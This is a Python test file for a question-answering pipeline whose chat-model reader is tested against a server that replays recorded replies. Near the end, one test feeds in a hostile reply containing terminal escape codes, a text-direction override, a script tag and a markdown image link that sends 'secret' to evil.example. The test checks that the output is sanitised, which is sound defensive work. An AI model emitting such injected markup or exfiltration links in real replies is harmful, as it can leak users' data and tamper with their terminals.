"""Answers of a chat model in a pipeline, over a server with recorded replies."""

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import run

from ragqa.errors import ArtefactError, BadInput, DamagedArtefact, MissingExtra, RemoteError
from ragqa.pipeline import Pipeline
from ragqa.reading.base import AnswerGenerator, Decoding
from ragqa.reading.calibration import Calibration
from ragqa.reading.chat import reader as chat_reader
from ragqa.reading.chat.confidence import CHAT_FEATURES, ChatEvidence, get_calibration_dir
from ragqa.reading.chat.prompt import NO_ANSWER
from ragqa.reading.chat.reader import ChatReader
from ragqa.types import Answer, Hit, Passage
from tests.helpers.chat_server import MODEL, Recording, Response, run_chat_server, say, say_json
from tests.helpers.packages import hide_package

QUESTION = "Who built Skarvik Lighthouse?"
LONG = "The keeper wrote down the weather of the night in his book. " * 20
TOO_LONG = say_json({"error": {"message": "the context length is exceeded"}}, 400)


@pytest.fixture(autouse=True)
def own_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("RAGQA_CHAT_KEY", raising=False)


@pytest.fixture
def recording() -> Iterator[Recording]:
    with run_chat_server(say("The engineer Ada", " Holm built it [1].")) as server:
        yield server


def make_hits(count: int, text: str = LONG) -> list[Hit]:
    return [Hit(Passage(n, f"{n}.md", f"Log {n}", text, f"{n}.md", 0, len(text)), -float(n)) for n in range(count)]


def test_a_pipeline_answers_with_checked_and_cited_statements(index: Path, recording: Recording) -> None:
    pipeline = Pipeline.load(index, reader=f"chat:{recording.url}#{MODEL}")
    assert isinstance(pipeline.reader, AnswerGenerator) and pipeline.k == 20
    assert recording.received == []  # loading asks nothing
    answer = pipeline.ask(QUESTION, min_confidence=0)
    assert answer.cited_text == "The engineer Ada Holm built it [1]."
    assert answer.supported and answer.reason is None and 0 < answer.confidence < 1
    (source,) = answer.sources
    passage = source.hit.passage
    assert source.span and "Ada Holm" in passage.text[source.span.start : source.span.end]
    row = answer.to_dict()
    assert row["statements"] == [
        {
            "text": "The engineer Ada Holm built it.",
            "start": 0,
            "end": 31,
            "citations": [1],
            "supported": True,
            "reason": None,
        }
    ]
    assert f"Question: {QUESTION}" in recording.prompts[0] and "Ada Holm" in recording.prompts[0]


def test_what_is_streamed_is_the_cited_text(index: Path) -> None:
    reply = say("Ada Holm built", " it [1]. The tower has ninety", " windows [1]. It is red.")
    with run_chat_server(reply) as recording:
        pipeline = Pipeline.load(index, reader=f"chat:{recording.url}#{MODEL}")
        *pieces, answer = pipeline.stream(QUESTION, min_confidence=0)
    assert isinstance(answer, Answer) and len(pieces) == 3
    assert "".join(map(str, pieces)) == answer.cited_text
    assert answer.supported is False and answer.reason is not None
    assert [statement.is_supported for statement in answer.statements][:2] == [True, False]


def test_the_model_declines_with_its_sentence(index: Path) -> None:
    with run_chat_server(say(NO_ANSWER)) as recording:
        pipeline = Pipeline.load(index, reader=f"chat:{recording.url}#{MODEL}")
        *pieces, answer = pipeline.stream(QUESTION, min_confidence=0)
    assert pieces == [] and isinstance(answer, Answer)
    assert (answer.text, answer.statements, answer.supported) == (None, (), None)
    assert answer.reason == "the language model found no answer in the passages"
    assert answer.sources and answer.alternatives[0].text == "Ada Holm"  # of the span reader


def test_an_empty_reply_is_declined(index: Path) -> None:
    with run_chat_server(say("")) as recording:
        answer = Pipeline.load(index, reader=f"chat:{recording.url}#{MODEL}").ask(QUESTION)
    assert answer.text is None and answer.reason == "the language model wrote nothing"


def test_another_answer_of_the_span_reader_is_a_runner_up(index: Path) -> None:
    with run_chat_server(say("The baker Olaf built it [1].")) as recording:
        answer = Pipeline.load(index, reader=f"chat:{recording.url}#{MODEL}").ask(QUESTION, min_confidence=0)
    assert [other.text for other in answer.alternatives] == ["Ada Holm"]
    assert not answer.statements[0].is_supported


def test_a_low_confidence_declines(index: Path, recording: Recording) -> None:
    answer = Pipeline.load(index, reader=f"chat:{recording.url}#{MODEL}").ask(QUESTION, min_confidence=1)
    assert answer.text is None and answer.statements == ()
    assert answer.alternatives[0].text == "The engineer Ada Holm built it."


def test_nothing_is_sent_without_passages(recording: Recording) -> None:
    reader = ChatReader.load(f"{recording.url}#{MODEL}")
    (answer,) = reader.read([QUESTION], [[]])
    assert answer.text is None and answer.reason == "no passages were found" and recording.received == []


def test_passages_are_dropped_from_the_end_to_fit_the_context() -> None:
    facts = {"/v1/models": {"data": [{"id": MODEL, "max_model_len": 3000}]}}
    with run_chat_server(say("The keeper wrote down the weather [1]."), facts=facts) as recording:
        (answer,) = ChatReader.load(f"{recording.url}#{MODEL}").read(["What did he write?"], [make_hits(9)])
    # 3,000 - 512 - 600 tokens are 5,664 characters: four passages of 1,200 and their titles
    assert answer.note == "4 of 9 passages fitted into the model's context"
    assert "Log 3" in recording.prompts[0] and "Log 4" not in recording.prompts[0]


def test_without_a_context_length_characters_are_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(chat_reader, "MAX_CHARACTERS", 2600)
    with run_chat_server(say("The keeper wrote [1].")) as recording:
        (answer,) = ChatReader.load(f"{recording.url}#{MODEL}").read(["What did he do?"], [make_hits(9)])
    assert answer.note == "2 of 9 passages fitted into the model's context"


def test_a_context_that_turns_out_too_short_halves_the_passages() -> None:
    with run_chat_server(TOO_LONG, TOO_LONG, say("The keeper wrote [1].")) as recording:
        (answer,) = ChatReader.load(f"{recording.url}#{MODEL}").read(["What did he do?"], [make_hits(8)])
    assert answer.note == "2 of 8 passages fitted into the model's context"
    with run_chat_server(TOO_LONG) as recording, pytest.raises(RemoteError, match="not even one passage fits"):
        ChatReader.load(f"{recording.url}#{MODEL}").read(["What did he do?"], [make_hits(8)])


def test_notes_name_a_cut_answer_and_missing_citations(index: Path) -> None:
    with run_chat_server(say("Ada Holm built it.", end="length")) as recording:
        reader = f"chat:{recording.url}#{MODEL}"
        answer = Pipeline.load(index, reader=reader, decoding=Decoding(max_answer=7)).ask(QUESTION, min_confidence=0)
        assert recording.received[-1].body["max_tokens"] == 7
    assert answer.note == (
        "the answer was cut at 7 tokens (--max-answer); "
        "the language model cited nothing for one statement; ragqa found the passages"
    )


@pytest.mark.parametrize(
    "decoding", [Decoding(beams=2), Decoding(fast=True), Decoding(min_answer=3), Decoding(max_answer=0)]
)
def test_settings_of_other_generators_are_refused(decoding: Decoding) -> None:
    with pytest.raises(BadInput):
        ChatReader.load("http://localhost:1/v1#m", decoding=decoding)


def test_an_own_calibration_replaces_the_default_one() -> None:
    source = "http://localhost:1/v1#m"
    reader = ChatReader.load(source)
    assert reader.warning == "m at localhost has no calibration of its own, so the confidence is a rough estimate"
    folder = get_calibration_dir(source)
    folder.mkdir(parents=True)
    Calibration((2.0,), "a test", 9, ("constant",), 0.7).save(folder)
    own = ChatReader.load(source)
    assert own.warning is None and own.threshold == 0.7 and own.fingerprint != reader.fingerprint
    assert ChatReader.load("http://localhost:1/v1#other").warning
    (folder / "calibration.json").write_text("{}")
    with pytest.raises(DamagedArtefact):
        ChatReader.load(source)


def test_the_features_of_an_answer() -> None:
    evidence = ChatEvidence(span_confidence=0.75, agrees=True, share_supported=0.5, share_cited=1.0, words=6)
    features = dict(zip(CHAT_FEATURES, evidence.compute_features(), strict=True))
    assert features == pytest.approx(
        {
            "constant": 1.0,
            "log-odds of the span reader": 1.0986123,
            "agrees with the span reader": 1.0,
            "log-odds, agreeing": 1.0986123,
            "share supported": 0.5,
            "all supported": 0.0,
            "share cited": 1.0,
            "words": 1.9459101,
        }
    )


def test_a_saved_pipeline_names_its_server_but_sends_nothing_to_another_machine(
    index: Path, recording: Recording, tmp_path: Path
) -> None:
    saved = tmp_path / "saved"
    Pipeline.load(index, reader=f"chat:{recording.url}#{MODEL}").save(saved)
    assert Pipeline.load(saved).ask(QUESTION, min_confidence=0).text == "The engineer Ada Holm built it."
    settings = json.loads((saved / "pipeline.json").read_text())
    assert settings["reader"] == f"chat:{recording.url}#{MODEL}"
    elsewhere = "chat:https://collect.example/v1#m"
    Pipeline.load(index, reader=elsewhere).save(tmp_path / "elsewhere")
    with pytest.raises(ArtefactError, match=r"would send your questions to https://collect\.example/v1: to allow it"):
        Pipeline.load(tmp_path / "elsewhere")
    assert Pipeline.load(tmp_path / "elsewhere", reader=elsewhere).reader.kind == "chat"


@pytest.mark.parametrize(
    ("setting", "error", "message"),
    [
        ("chat:", BadInput, "name a server and its model, or a GGUF file, after the colon"),
        ("chat:llama3", BadInput, r"name a server and a model \(chat:URL#MODEL\), or a file \(chat:FILE.gguf\)"),
        ("chat:none.gguf", ArtefactError, "none.gguf: no such file"),
        ("chat", BadInput, "names no such reader; give a directory, or chat:URL#MODEL"),
    ],
)
def test_settings_that_name_no_model(setting: str, error: type[Exception], message: str, index: Path) -> None:
    with pytest.raises(error, match=message):
        Pipeline.load(index, reader=setting)


def test_a_file_that_is_no_gguf_and_a_missing_package_are_named(
    index: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "model.gguf"
    file.write_bytes(b"<html>404</html>")
    with pytest.raises(DamagedArtefact, match=r"model.gguf is not a GGUF file: it begins with b'<htm'"):
        Pipeline.load(index, reader=f"chat:{file}")
    file.write_bytes(b"GGUF\x03\x00\x00\x00")
    hide_package("llama_cpp", monkeypatch)
    with pytest.raises(MissingExtra, match="needs the extra 'llama'"):
        Pipeline.load(index, reader=f"chat:{file}")


class FakeLlama:
    """Stands for ``llama_cpp.Llama``."""

    def __init__(self, path: str, **options: Any) -> None:
        self.metadata = {"llama.context_length": "2048", "general.name": "fake"}
        if Path(path).stat().st_size < 9:
            raise ValueError(f"Failed to load model from file: {path}")

    def tokenize(self, text: bytes, add_bos: bool) -> list[int]:
        return list(text)

    def create_chat_completion(self, messages: list[dict[str, str]], **options: Any) -> Iterator[dict[str, Any]]:
        if len(messages[-1]["content"]) > 900:
            raise ValueError("Requested tokens (9) exceed context window of 8")
        yield {"choices": [{"delta": {"role": "assistant"}, "finish_reason": None}]}
        yield {"choices": [{"delta": {"content": "Ada Holm [1]"}, "finish_reason": None}]}
        yield {"choices": [{"delta": {}, "finish_reason": "stop"}]}


def test_a_model_in_a_file_answers_in_this_process(
    index: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "llama_cpp", type(sys)("llama_cpp"))
    monkeypatch.setattr(sys.modules["llama_cpp"], "Llama", FakeLlama, raising=False)
    file = tmp_path / "model.gguf"
    file.write_bytes(b"GGUF\x03\x00\x00\x00\x00")
    pipeline = Pipeline.load(index, reader=f"chat:{file}")
    answer = pipeline.ask(QUESTION, min_confidence=0, k=1)
    assert answer.cited_text == "Ada Holm [1]" and answer.supported
    monkeypatch.chdir(tmp_path)
    pipeline.save("saved")
    assert Pipeline.load("saved").reader.fingerprint == pipeline.reader.fingerprint
    assert json.loads(Path("saved/pipeline.json").read_text())["reader"] == "chat:./../model.gguf"
    (answer,) = pipeline.reader.read([QUESTION], [make_hits(4, LONG[:700])])
    assert answer.note == "1 of 4 passages fitted into the model's context"
    file.write_bytes(b"GGUF\x03\x00\x00\x00")
    with pytest.raises(DamagedArtefact, match="cannot be loaded"):
        Pipeline.load(index, reader=f"chat:{file}").ask(QUESTION)


def test_the_command_prints_marks_and_sources(index: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with run_chat_server(say("Ada Holm built it [1]. It has ninety windows [1].")) as recording:
        arguments = ("ask", QUESTION, "--index", str(index), "--reader", f"chat:{recording.url}#{MODEL}")
        status, out, err = run(*arguments, "--min-confidence", "0", capsys=capsys)
    assert status == 0 and "has no calibration of its own" in err
    assert out.startswith("Ada Holm built it [1]. It has ninety windows [1] (unsupported).")
    assert 'Unsupported: "It has ninety windows." in [1], ninety is not there.' in out
    assert "\n[1] Skarvik Lighthouse\n" in out and "\n[2] " not in out


HOSTILE = "Ada\x1b[31m Holm\u202e built it [1]. <script>alert(1)</script> ![x](http://evil.example/?q=secret)"


def test_a_hostile_reply_can_do_nothing_to_a_terminal(index: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with run_chat_server(say(HOSTILE)) as recording:
        arguments = ("ask", QUESTION, "--index", str(index), "--reader", f"chat:{recording.url}#{MODEL}")
        status, out, _ = run(*arguments, "--min-confidence", "0", capsys=capsys)
    assert status == 0 and "\x1b" not in out and "\u202e" not in out
    assert "evil.example" in out and "(unsupported)" in out


@pytest.mark.parametrize(
    ("response", "message"),
    [
        (Response(b"no", kind="text/plain"), "does not answer with JSON"),
        (say_json({"error": {"message": "no such model"}}, 404), "answers 404 for the model"),
        (say_json({}, 401), "set RAGQA_CHAT_KEY to your key"),
    ],
)
def test_the_command_prints_one_line_of_error(
    response: Response, message: str, index: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with run_chat_server(response) as recording:
        arguments = ("ask", QUESTION, "--index", str(index), "--reader", f"chat:{recording.url}#{MODEL}")
        status, out, err = run(*arguments, capsys=capsys)
    assert status == 2 and out == "" and message in err.splitlines()[-1]


def test_eval_scores_the_text_without_its_citations(
    index: Path, recording: Recording, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    recording.chat[:] = [say("Ada Holm [1]"), say(NO_ANSWER)]
    questions = tmp_path / "questions.jsonl"
    rows = [{"question": QUESTION, "answers": ["Ada Holm"]}, {"question": "Who painted it?", "answers": []}]
    questions.write_text("".join(json.dumps(row) + "\n" for row in rows))
    report = tmp_path / "out.report"
    arguments = ("eval", str(questions), "--index", str(index), "--reader", f"chat:{recording.url}#{MODEL}")
    status, out, _ = run(*arguments, "--out", str(report), "--json", capsys=capsys)
    assert status == 0 and json.loads(out)["em"]["value"] == 1.0
